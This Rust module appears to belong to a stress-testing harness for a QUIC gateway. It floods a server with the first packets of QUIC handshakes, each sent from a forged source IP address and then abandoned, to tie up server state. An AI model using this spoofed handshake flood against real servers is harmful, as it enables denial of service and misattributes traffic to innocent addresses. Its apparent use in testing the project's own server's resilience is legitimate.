//! First datagrams of QUIC handshakes from forged addresses, which nothing follows: each has the key exchange of a client of its
//! own, so that the server works for it, and keeps a handshake that nobody goes on with (RFC 9000 §21.1).

use std::io;
use std::net::{IpAddr, Ipv4Addr, SocketAddr, UdpSocket};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::thread;
use std::time::Instant;

use quinn_proto::crypto::rustls::QuicClientConfig;
use quinn_proto::{ClientConfig, Endpoint, EndpointConfig, EndpointEvent};
use quinn_udp::{Transmit, UdpSockRef, UdpSocketState};
use rustls::RootCertStore;
use rustls::crypto::ring;
use switchyard_gateway_core::handshake::Form;

use super::flood::address;
use super::kinds::REST;
use crate::SwarmError;

/// Datagrams between two rests: up to two thousand a second, more than a hundred times the handshakes that fail on a healthy
/// server.
const BATCH: u64 = 4;
/// Sockets that they leave from, so that they also come from several ports.
const SOCKETS: usize = 16;
/// The name that is asked for. Nobody is there to believe the answer.
const NAME: &str = "localhost";

/// Abuses the server until told to stop; answers how many handshakes were begun.
pub(super) fn run(server: SocketAddr, stop: &AtomicBool) -> Result<u64, SwarmError> {
    let mut forger = Forger::new().map_err(SwarmError::io("preparing to speak QUIC"))?;
    let mut sent = 0;
    while !stop.load(Ordering::Relaxed) {
        for _ in 0..BATCH {
            forger.send(server, sent).map_err(SwarmError::io(format!("sending to {server}")))?;
            sent += 1;
        }
        thread::sleep(REST);
    }
    Ok(sent)
}

struct Forger {
    sockets: Vec<(UdpSocket, UdpSocketState)>,
    endpoint: Endpoint,
    config: ClientConfig,
    datagram: Vec<u8>,
}

impl Forger {
    fn new() -> io::Result<Self> {
        let socket = || {
            let socket = UdpSocket::bind((Ipv4Addr::UNSPECIFIED, 0))?;
            let state = UdpSocketState::new(UdpSockRef::from(&socket))?;
            Ok((socket, state))
        };
        let mut tls = rustls::ClientConfig::builder_with_provider(Arc::new(ring::default_provider()))
            .with_safe_default_protocol_versions()
            .map_err(io::Error::other)?
            .with_root_certificates(RootCertStore::empty())
            .with_no_client_auth();
        tls.alpn_protocols = vec![Form::Binary.subprotocol().as_bytes().to_vec()];
        let crypto = QuicClientConfig::try_from(tls).map_err(io::Error::other)?;
        Ok(Self {
            sockets: (0..SOCKETS).map(|_| socket()).collect::<io::Result<_>>()?,
            endpoint: Endpoint::new(Arc::new(EndpointConfig::default()), None, true, None),
            config: ClientConfig::new(Arc::new(crypto)),
            datagram: Vec::new(),
        })
    }

    /// Begins a handshake as whoever has this number, and forgets it.
    fn send(&mut self, server: SocketAddr, number: u64) -> io::Result<()> {
        let now = Instant::now();
        let begun = self.endpoint.connect(now, self.config.clone(), server, NAME);
        let (handle, mut connection) = begun.map_err(io::Error::other)?;
        self.datagram.clear();
        if let Some(transmit) = connection.poll_transmit(now, 1, &mut self.datagram) {
            let place = usize::try_from(number % SOCKETS as u64).expect("there are few");
            let (socket, state) = &self.sockets[place];
            let transmit = Transmit {
                destination: server,
                ecn: None,
                contents: &self.datagram[..transmit.size],
                segment_size: None,
                src_ip: Some(IpAddr::from(address(number))),
            };
            // A full socket is rest enough.
            let _ = state.send(UdpSockRef::from(socket), &transmit);
        }
        self.endpoint.handle_event(handle, EndpointEvent::drained());
        Ok(())
    }
}
